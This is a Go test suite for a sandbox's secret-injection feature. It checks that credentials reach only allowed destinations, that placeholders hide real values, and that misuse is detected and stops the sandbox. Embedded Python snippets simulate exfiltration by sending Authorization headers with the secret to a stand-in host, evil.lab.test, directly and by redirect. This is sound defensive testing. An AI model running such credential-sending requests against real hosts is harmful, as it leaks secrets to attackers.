package test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/useshards/shard"
	"github.com/useshards/shard/internal/testenv"
)

// trusting is a busybox image that trusts somebody, python the same with Python and the lab's authority.
const (
	trusting       = "test/trusting:latest"
	trustingPython = "test/trusting-python:latest"
	trustFile      = "/etc/ssl/certs/ca-certificates.crt"
)

// labDaemon is a daemon that trusts the lab's servers, of which there are dest, other and evil.lab.test.
func labDaemon(t *testing.T, o testenv.Options) *testenv.Daemon {
	t.Helper()
	o.Lab = testenv.NewLab(t)
	authorities := filepath.Join(t.TempDir(), "lab.pem")
	if err := os.WriteFile(authorities, o.Lab.CA(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"dest.lab.test", "other.lab.test", "evil.lab.test"} {
		o.Lab.Name(name, testenv.LabWebAddr)
	}
	o.Args = append(o.Args, "--dns", testenv.LabDNSAddr)
	o.Env = append(o.Env, "SSL_CERT_FILE="+authorities)
	return testenv.Start(t, o)
}

// secretDaemon is a labDaemon that has both images.
func secretDaemon(t *testing.T, o testenv.Options) *testenv.Daemon {
	t.Helper()
	archive := testenv.PythonArchive(t)
	d := labDaemon(t, o)
	python, err := tarball.ImageFromPath(archive, nil)
	if err != nil {
		t.Fatal(err)
	}
	python, err = mutate.AppendLayers(python, testenv.Layer(t, testenv.Entry{Name: trustFile[1:], Body: string(d.Lab().CA())}))
	if err != nil {
		t.Fatal(err)
	}
	d.Import(trustingPython, python)
	importTrusting(t, d)
	return d
}

func importTrusting(t *testing.T, d *testenv.Daemon) {
	t.Helper()
	d.Import(trusting, testenv.Image(t, testenv.BusyboxConfig(), testenv.Layer(t, testenv.BusyboxEntries(t)...),
		testenv.Layer(t, testenv.Entry{Name: trustFile[1:], Body: "nobody yet"})))
}

// setSecret sets a secret by the command line, with the value on stdin.
func setSecret(t *testing.T, d *testenv.Daemon, value string, args ...string) {
	t.Helper()
	r := d.Feed(strings.NewReader(value+"\n"), append([]string{"secret", "set"}, args...)...)
	if r.Code != 0 || r.Stdout != args[len(args)-1]+"\n" || r.Stderr != "" {
		t.Fatalf("secret set %v: %+v", args, r)
	}
}

// seen records the headers of requests to https://…/seen.
type seen struct {
	mu      sync.Mutex
	headers []string
}

func (s *seen) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.headers = append(s.headers, r.Host+" "+r.Header.Get("Authorization"))
	s.mu.Unlock()
	_, _ = fmt.Fprintln(w, "you said", r.Header.Get("Authorization"))
}

func (s *seen) all() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.headers)
}

// last is the newest request.
func (s *seen) last() string {
	all := s.all()
	if len(all) == 0 {
		return ""
	}
	return all[len(all)-1]
}

// bearer asks URLs with the variable of that name in a header, with what the sandbox trusts, and prints a line for each.
const bearer = `
import http.client, os, ssl, sys, urllib.parse
for url in sys.argv[2:]:
    u = urllib.parse.urlsplit(url)
    try:
        kind = http.client.HTTPSConnection if u.scheme == "https" else http.client.HTTPConnection
        c = kind(u.hostname, u.port, timeout=30)
        c.request("GET", u.path, headers={"Authorization": "Bearer " + os.environ.get(sys.argv[1], "none")})
        r = c.getresponse()
        print(r.status, r.read().decode().strip(), flush=True)
    except Exception as e:
        print("failed", type(e).__name__, str(e).replace("\n", " "), flush=True)
`

func send(t *testing.T, d *testenv.Daemon, box, name string, urls ...string) []string {
	t.Helper()
	r := d.Shard(append([]string{"exec", box, "python3", "-c", bearer, name}, urls...)...)
	lines := strings.Split(strings.TrimSuffix(r.Stdout, "\n"), "\n")
	if r.Code != 0 || len(lines) != len(urls) {
		t.Fatalf("send: exit code %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	return lines
}

// TestSecretLife is cases 80 and 84: a secret that comes later, a new value, a crash of the daemon, redirects to elsewhere, a
// removal, and the states that allow a change.
func TestSecretLife(t *testing.T) {
	t.Parallel()
	d := secretDaemon(t, testenv.Options{})
	got := &seen{}
	d.Lab().Web().Handle("/seen", got)
	d.Lab().Web().Handle("/away", http.RedirectHandler("https://evil.lab.test/seen", http.StatusFound))
	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
		const dest, evil = "https://dest.lab.test/seen", "https://evil.lab.test/seen"
		name := "TOKEN_" + strings.ToUpper(provider)
		mock := "mock-" + name
		id := box(t, d, provider, trustingPython)
		setSecret(t, d, "value-one-"+provider, "--dest", "DEST.lab.test.", name)
		refused(t, d.Shard("secret", "grant", id, name), "running", "stop it first")
		if a := call(t, d, "POST", "/v0/sandboxes/"+id+"/secrets/"+name, nil); a.code(t) != shard.CodeSandboxLive {
			t.Errorf("grant to a running sandbox: %d %s", a.Status, a.Body)
		}
		d.Must("stop", id)
		for range 2 {
			if out := d.Must("secret", "grant", id, name); out != id {
				t.Errorf("grant printed %q", out)
			}
		}
		if in := inspect(t, d, id); !slices.Equal(in.Secrets, []string{name}) || in.Policy != "" {
			t.Errorf("%+v", in)
		}
		d.Must("start", id)
		want := func(when, url, line, header string) {
			t.Helper()
			if lines := send(t, d, id, name, url); lines[0] != line {
				t.Errorf("%s: %s: the sandbox got %q, want %q", when, url, lines[0], line)
			}
			if got := got.last(); got != header {
				t.Errorf("%s: %s: the host got %q, want %q", when, url, got, header)
			}
		}
		echo := "200 you said Bearer " + mock // whatever the host echoes
		want("at first", dest, echo, "dest.lab.test Bearer value-one-"+provider)
		want("elsewhere", evil, echo, "evil.lab.test Bearer "+mock) // nobody looks into that: it is the host's own certificate
		want("in the clear", "http://evil.lab.test/seen", echo, "evil.lab.test Bearer "+mock)
		follow := `import os, urllib.request as u; print(u.urlopen(u.Request("https://dest.lab.test/away", headers={"Authorization": "Bearer " + os.environ["` + name + `"]})).status)`
		if r := d.Shard("exec", id, "python3", "-c", follow); r.Stdout != "200\n" || got.last() != "evil.lab.test Bearer "+mock {
			t.Errorf("after a redirect: %+v, the host got %q", r, got.last())
		}
		setSecret(t, d, "value-two-"+provider, name)
		want("after a rotation", dest, echo, "dest.lab.test Bearer value-two-"+provider)
		setSecret(t, d, "value-three-"+provider, "--dest", "*.lab.test", name)
		want("with other destinations", evil, echo, "evil.lab.test Bearer value-three-"+provider)
		setSecret(t, d, "value-three-"+provider, "--dest", "dest.lab.test", name)
		d.Kill9()
		d.Restart()
		want("after a crash", dest, echo, "dest.lab.test Bearer value-three-"+provider)
		want("after a crash", evil, echo, "evil.lab.test Bearer "+mock)
		d.Must("stop", id)
		d.Must("start", id)
		want("after a stop", dest, echo, "dest.lab.test Bearer value-three-"+provider)
		testenv.Eventually(t, "the misuses are counted", func() (bool, string) {
			all := inspect(t, d, id).Misuses
			return slices.ContainsFunc(all, func(m shard.SecretMisuse) bool {
				return m.Secret == name && m.Count >= 1 && m.Host == "evil.lab.test" && m.Reason != ""
			}), fmt.Sprintf("%+v", all)
		})

		for _, why := range []struct{ url, word string }{
			{dest, "dest.lab.test: the value is put in"}, {"https://DEST.lab.test:443/x?y", "the value is put in"}, {evil, "none of the destinations"},
			{"http://dest.lab.test/", "not encrypted"}, {"https://dest.lab.test:8443/", "the port is not 443"}, {"https://203.0.113.7/", "none of the destinations"},
		} {
			if out := d.Must("secret", "check", id, name, why.url); !strings.Contains(out, why.word) {
				t.Errorf("check %s: %q", why.url, out)
			}
		}
		if a := call(t, d, "DELETE", "/v0/secrets/"+name, nil); a.code(t) != shard.CodeInUse || !strings.Contains(string(a.Body), id) {
			t.Errorf("remove a held secret: %d %s", a.Status, a.Body)
		}
		refused(t, d.Shard("secret", "set", "--placeholder", "another-placeholder", name, "x-value"), "cannot change")
		d.Must("secret", "remove", "--force", name)
		want("after the removal", dest, "200 you said Bearer "+mock, "dest.lab.test Bearer "+mock)
		refused(t, d.Shard("secret", "set", "--dest", "dest.lab.test", name, "x-value"), "ungrant")
		if out := d.Must("secret", "check", id, name, dest); !strings.Contains(out, "no secret") {
			t.Errorf("check after the removal: %q", out)
		}
		refused(t, d.Shard("secret", "ungrant", id, name), "running")
		d.Must("stop", id)
		d.Must("secret", "ungrant", id, name)
		d.Must("start", id)
		if out := sh(t, d, id, "echo ${"+name+"-none} $SSL_CERT_FILE; grep -c BEGIN "+trustFile); out != "none "+trustFile+"\n2" {
			t.Errorf("after the ungrant: %q", out)
		}
		setSecret(t, d, "value-four", "--dest", "dest.lab.test", "--on-misuse", "stop", name)
		want("after the ungrant", "http://dest.lab.test/seen", "200 you said Bearer none", "dest.lab.test Bearer none")
		d.Must("stop", id)
		d.Must("secret", "grant", id, name)
		d.Must("start", id)
		want("granted again", dest, echo, "dest.lab.test Bearer value-four")
		d.Shard("exec", id, "python3", "-c", bearer, name, "http://evil.lab.test/seen")
		testenv.Eventually(t, "a misuse stops the sandbox", func() (bool, string) {
			in := inspect(t, d, id)
			return in.State == shard.StateStopped && strings.Contains(in.StoppedReason, "evil.lab.test"), fmt.Sprintf("%+v", in)
		})
		d.Must("start", id) // what was done before does not count
		want("started again", dest, echo, "dest.lab.test Bearer value-four")
	})
}

// TestSecretEnvironment: every kind of command finds the placeholder, and none the value.
func TestSecretEnvironment(t *testing.T) {
	t.Parallel()
	credentials := t.TempDir()
	if err := os.WriteFile(filepath.Join(credentials, "secret-key"), []byte(strings.Repeat("c3", 32)+"\n"), 0o400); err != nil {
		t.Fatal(err)
	}
	d := start(t, testenv.Options{Env: []string{"CREDENTIALS_DIRECTORY=" + credentials}})
	importTrusting(t, d)
	setSecret(t, d, "value-of-a", "--dest", "a.example", "A_KEY")
	setSecret(t, d, "value-of-b", "--dest", "b.example", "--placeholder", "sk-test-00000000", "B_KEY")
	if data, err := os.ReadFile(filepath.Join(d.Root, "secrets", "A_KEY")); err != nil || strings.Contains(string(data), "value-of-a") {
		t.Errorf("a secret under the key that systemd gives: %v %s", err, data)
	}
	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
		id := box(t, d, provider, "--secret", "A_KEY", "--secret", "B_KEY", "--secret", "A_KEY", "--env", "OWN=yes", trusting)
		const line = "mock-A_KEY sk-test-00000000 yes yes " + trustFile + " " + trustFile + " " + trustFile + " " + trustFile
		const script = "echo $A_KEY $B_KEY $OWN $FROM_IMAGE $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $NODE_EXTRA_CA_CERTS $CURL_CA_BUNDLE"
		if got := sh(t, d, id, script); got != line {
			t.Errorf("exec: %q", got)
		}
		if got := inspect(t, d, id).Secrets; !slices.Equal(got, []string{"A_KEY", "B_KEY"}) {
			t.Errorf("secrets: %q", got)
		}
		d.Must("run", id, "--name", "p", "--restart", "always", "--", "sh", "-c", script+"; exec sleep 600")
		logs := func(n int) {
			t.Helper()
			testenv.Eventually(t, "the process has told its environment", func() (bool, string) {
				out := d.Must("logs", id, "p")
				return out == strings.TrimSuffix(strings.Repeat(line+"\n", n), "\n"), out
			})
		}
		logs(1)
		d.Kill9()
		d.Restart()
		if got := sh(t, d, id, script); got != line {
			t.Errorf("exec after a crash: %q", got)
		}
		d.Must("stop", id)
		d.Must("start", id)
		logs(2)
		if got := sh(t, d, id, "grep -c BEGIN "+trustFile+"; head -n 1 "+trustFile); got != "1\nnobody yet" {
			t.Errorf("the trust file after two starts: %q", got)
		}
	})
}

// TestSecretRefusals: what cannot be granted is refused, by a name and a code, and leaves nothing behind.
func TestSecretRefusals(t *testing.T) {
	t.Parallel()
	d := start(t)
	importTrusting(t, d)
	for _, name := range []string{"A_KEY", "FROM_IMAGE", "SSL_CERT_FILE"} {
		setSecret(t, d, "value-of-all", "--dest", "a.example", name)
	}
	setSecret(t, d, "value-of-all", "--dest", "a.example", "--on-misuse", "pause", "PAUSING")
	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
		create := func(image string, secrets, env []string) answer {
			return call(t, d, "POST", "/v0/sandboxes?wait=true", shard.CreateRequest{Image: image, Provider: provider, Secrets: secrets, Env: env})
		}
		for what, tc := range map[string]struct {
			a    answer
			code shard.Code
			word string
		}{
			"an unknown secret":           {create(trusting, []string{"NOBODY"}, nil), shard.CodeInvalidRequest, "there is no secret"},
			"a bad name":                  {create(trusting, []string{"../x"}, nil), shard.CodeInvalidRequest, "not valid"},
			"a variable of its name":      {create(trusting, []string{"A_KEY"}, []string{"A_KEY=1"}), shard.CodeInvalidRequest, "A_KEY already"},
			"the image's variable":        {create(trusting, []string{"FROM_IMAGE"}, nil), shard.CodeInvalidRequest, "FROM_IMAGE already"},
			"the name of a CA variable":   {create(trusting, []string{"SSL_CERT_FILE"}, nil), shard.CodeInvalidRequest, "cannot have it"},
			"a CA variable of one's own":  {create(trusting, []string{"A_KEY"}, []string{"CURL_CA_BUNDLE=/x"}), shard.CodeInvalidRequest, "CURL_CA_BUNDLE"},
			"an image that trusts nobody": {create(image, []string{"A_KEY"}, nil), shard.CodeInvalidRequest, "ca-certificates"},
		} {
			if tc.a.code(t) != tc.code || !strings.Contains(string(tc.a.Body), tc.word) {
				t.Errorf("%s: %d %s", what, tc.a.Status, tc.a.Body)
			}
		}
		caps := decode[shard.Capabilities](t, call(t, d, "GET", "/v0/capabilities?provider="+provider, nil), 200)
		if a := create(trusting, []string{"PAUSING"}, nil); !caps.Pause && (a.code(t) != shard.CodeUnsupported || !strings.Contains(string(a.Body), "pause")) {
			t.Errorf("a provider without pause: %d %s", a.Status, a.Body)
		} else if caps.Pause {
			d.Must("remove", "--force", decode[shard.Sandbox](t, a, http.StatusCreated).ID)
		}
		if left := call(t, d, "GET", "/v0/sandboxes?all=true", nil); !strings.Contains(string(left.Body), `"sandboxes":[]`) {
			t.Errorf("refused creates left %s", left.Body)
		}
		id := box(t, d, provider, "--env", "REQUESTS_CA_BUNDLE=/x", trusting)
		bare := box(t, d, provider, image)
		d.Must("stop", id, bare)
		plain := box(t, d, provider, trusting)
		d.Must("stop", plain)
		if a := call(t, d, "POST", "/v0/sandboxes/"+plain+"/secrets/PAUSING", nil); !caps.Pause && a.code(t) != shard.CodeUnsupported {
			t.Errorf("grant: a provider without pause: %d %s", a.Status, a.Body)
		} else if caps.Pause {
			decode[shard.Sandbox](t, a, http.StatusOK)
			decode[shard.Sandbox](t, call(t, d, "DELETE", "/v0/sandboxes/"+plain+"/secrets/PAUSING", nil), http.StatusOK)
		}
		grant := func(id, name string) answer { return call(t, d, "POST", "/v0/sandboxes/"+id+"/secrets/"+name, nil) }
		for what, tc := range map[string]struct {
			a    answer
			code shard.Code
		}{
			"an unknown secret":           {grant(id, "NOBODY"), shard.CodeNotFound},
			"a bad name":                  {grant(id, "nobody"), shard.CodeInvalidRequest},
			"an unknown sandbox":          {grant("nobody", "A_KEY"), shard.CodeNotFound},
			"the image's variable":        {grant(id, "FROM_IMAGE"), shard.CodeInvalidRequest},
			"the name of a CA variable":   {grant(bare, "SSL_CERT_FILE"), shard.CodeInvalidRequest},
			"a CA variable of one's own":  {grant(id, "A_KEY"), shard.CodeInvalidRequest},
			"an image that trusts nobody": {grant(bare, "A_KEY"), shard.CodeInvalidRequest},
		} {
			if tc.a.code(t) != tc.code {
				t.Errorf("grant: %s: %d %s", what, tc.a.Status, tc.a.Body)
			}
		}
		for _, ref := range []string{id, bare} {
			if in := inspect(t, d, ref); in.Secrets != nil {
				t.Errorf("%+v", in)
			}
			d.Must("start", ref)
		}
		// A pipe in the place of the trust file holds nobody up.
		sh(t, d, bare, "mkdir -p /etc/ssl/certs && mkfifo "+trustFile)
		d.Must("stop", bare)
		if a := grant(bare, "A_KEY"); a.code(t) != shard.CodeInvalidRequest {
			t.Errorf("a pipe: %d %s", a.Status, a.Body)
		}
		d.Must("start", bare)
		d.Must("remove", "--force", id, bare)
	})
}

// TestSecretCommand: where values come from, what is shown of a secret, and secrets at rest under a host key.
func TestSecretCommand(t *testing.T) {
	t.Parallel()
	keyFile := filepath.Join(t.TempDir(), "key")
	writeKey := func(digits string) {
		if err := os.WriteFile(keyFile, []byte(strings.Repeat(digits, 32)), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	writeKey("a1")
	d := testenv.Start(t, testenv.Options{Args: []string{"--secret-key-file", keyFile}})
	if r := d.Shard("secret", "set", "--dest", "api.example.com", "FROM_ARG", "value-from-arg"); r.Code != 0 || !strings.HasPrefix(r.Stderr, "warning: ") || strings.Contains(r.Stderr, "value-from-arg") {
		t.Errorf("an argument: %+v", r)
	}
	if r := d.Feed(strings.NewReader("value-from-dash\r\n"), "secret", "set", "--destination", "api.example.com", "--dest", "*.example.org", "FROM_DASH", "-"); r.Code != 0 || r.Stderr != "" {
		t.Errorf("a dash: %+v", r)
	}
	if got := d.Must("secret", "list"); !strings.HasPrefix(got, "NAME        DESTINATIONS                     PLACEHOLDER      UPDATED\n"+
		"FROM_ARG    api.example.com                  mock-FROM_ARG    ") || strings.Contains(got, "value-from") {
		t.Errorf("list:\n%s", got)
	}
	var list []shard.Secret
	if err := json.Unmarshal([]byte(d.Must("secret", "ls", "--format", "json")), &list); err != nil || len(list) != 2 || len(list[1].Destinations)+len(list[0].Destinations) != 3 {
		t.Errorf("%+v %v", list, err)
	}
	refused(t, d.Feed(strings.NewReader("\n"), "secret", "set", "--dest", "api.example.com", "NOTHING"), "empty")
	refused(t, d.Feed(strings.NewReader("two\nlines"), "secret", "set", "--dest", "api.example.com", "LINES"), "line end")
	refused(t, d.Feed(strings.NewReader("caf\xe9"), "secret", "set", "--dest", "api.example.com", "LATIN"), "UTF-8")
	if a := call(t, d, "PUT", "/v0/secrets/HALF", `{"value":"half\ud800","destinations":["a.example"]}`); a.code(t) != shard.CodeInvalidRequest {
		t.Errorf("half a surrogate pair: %d %s", a.Status, a.Body)
	}
	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "--dest", "*.co.uk", "WIDE"), "too wide")
	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "NEW"), "--dest")
	refused(t, d.Shard("secret", "remove", "NOBODY"), "no secret")
	if page := call(t, d, "GET", "/v0/secrets?limit=1", nil); !strings.Contains(string(page.Body), `"next":"`) {
		t.Errorf("%s", page.Body)
	}
	for _, name := range []string{"FROM_ARG", "FROM_DASH"} {
		info, err := os.Stat(filepath.Join(d.Root, "secrets", name))
		data, err2 := os.ReadFile(filepath.Join(d.Root, "secrets", name))
		if err != nil || err2 != nil || info.Mode().Perm() != 0o600 || strings.Contains(string(data), "value-from") || strings.Contains(string(data), "example") {
			t.Errorf("%s: %v %v %v %s", name, err, err2, info.Mode(), data)
		}
	}
	d.Stop()
	d.Restart()
	if got := d.Shard("secret", "list"); got.Code != 0 {
		t.Errorf("with the same key: %+v", got)
	}
	d.Stop()
	writeKey("b2")
	d.Restart()
	if got := d.Shard("secret", "list"); got.Code != 1 || strings.Count(got.Stderr, "another") != 0 || strings.Count(got.Stderr, "encrypted with the host key") != 2 {
		t.Errorf("with another key: %+v", got)
	}
	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "--dest", "api.example.com", "MORE"), "FROM_ARG", "cannot be read")
	d.Must("secret", "remove", "FROM_ARG", "FROM_DASH")
	setSecret(t, d, "value", "--dest", "api.example.com", "MORE")
}
